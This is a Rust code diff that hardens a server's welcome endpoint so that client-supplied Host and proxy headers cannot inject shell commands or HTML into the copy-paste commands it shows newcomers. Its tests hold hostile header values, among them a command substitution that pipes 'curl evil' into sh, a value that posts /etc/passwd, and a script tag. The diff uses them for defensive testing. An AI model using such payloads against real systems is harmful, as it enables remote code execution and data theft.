@@ -24,9 +24,7 @@ const LINKS: &[(&str, &str)] = &[
     description = "What this server is and where to start: its version, the first commands (a key, an event, a query) with this server's address, and the endpoints to know. HTML for a browser (`Accept: text/html`), JSON otherwise. Needs no key and says nothing about the data.",
     responses((status = 200, description = "the welcome, as HTML or JSON")))]
 pub async fn welcome(headers: HeaderMap) -> Response {
-    let (protocol, host) = public_address(&headers);
-    let base = format!("{protocol}://{host}");
-    let steps = first_steps(&base);
+    let steps = first_steps(&base_url(&headers));
     let wants_html = headers
         .get(header::ACCEPT)
         .and_then(|v| v.to_str().ok())
@@ -43,11 +41,28 @@ pub async fn welcome(headers: HeaderMap) -> Response {
         }))
         .into_response()
     };
-    // The address in it depends on the request's Host and proxy headers.
+    // The address in it comes from the request's headers: no cache may answer another request
+    // with it.
     response
         .headers_mut()
-        .insert(header::VARY, HeaderValue::from_static("accept, host"));
+        .insert(header::CACHE_CONTROL, HeaderValue::from_static("no-store"));
     response
+}
+
+/// The address to put in the commands. It comes from `Host` or a proxy's headers, which the
+/// client writes, and the commands are meant to be pasted into a shell: anything but a plain
+/// host name or address (with a port) is replaced by a placeholder.
+fn base_url(headers: &HeaderMap) -> String {
+    let (protocol, host) = public_address(headers);
+    let plain = !host.is_empty()
+        && host
+            .chars()
+            .all(|c| c.is_ascii_alphanumeric() || matches!(c, '.' | '-' | ':' | '[' | ']'));
+    if plain {
+        format!("{protocol}://{host}")
+    } else {
+        "http://KITH_ADDRESS".to_string()
+    }
 }
 
 /// The commands that take a newcomer from a running server to a first answer.
@@ -133,11 +148,42 @@ fn escape(text: &str) -> String {
 mod tests {
     use super::*;
 
+    fn with_headers(list: &[(&'static str, &'static str)]) -> HeaderMap {
+        let mut map = HeaderMap::new();
+        for (name, value) in list {
+            map.append(*name, HeaderValue::from_static(value));
+        }
+        map
+    }
+
     #[test]
-    fn what_the_request_names_cannot_inject_markup() {
-        let steps = first_steps("http://<script>alert(1)</script>");
-        let html = page(&steps);
-        assert!(!html.contains("<script>"), "{html}");
-        assert!(html.contains("http://&lt;script&gt;alert(1)&lt;/script&gt;/v1/track"));
+    fn the_commands_name_this_servers_address() {
+        let proxied = with_headers(&[
+            ("host", "10.0.0.5:8417"),
+            ("x-forwarded-proto", "https"),
+            ("x-forwarded-host", "collect.tienda.mx"),
+        ]);
+        assert_eq!(base_url(&proxied), "https://collect.tienda.mx");
+        let v6 = with_headers(&[("host", "[::1]:8417")]);
+        assert_eq!(base_url(&v6), "http://[::1]:8417");
+    }
+
+    #[test]
+    fn what_the_request_names_cannot_reach_a_shell_or_the_markup() {
+        for host in [
+            "evil.example/$(curl evil|sh)#",
+            "a.mx' -d @/etc/passwd '",
+            "<script>alert(1)</script>",
+            "a.mx;b",
+        ] {
+            let headers = with_headers(&[("host", "127.0.0.1:8417")]);
+            let mut headers = headers;
+            headers.insert("x-forwarded-host", HeaderValue::from_str(host).unwrap());
+            assert_eq!(base_url(&headers), "http://KITH_ADDRESS", "{host}");
+        }
+        // And the page escapes what it shows all the same.
+        let html = page(&first_steps("http://<b>"));
+        assert!(!html.contains("<b>"), "{html}");
+        assert!(html.contains("http://&lt;b&gt;/v1/track"));
     }
 }
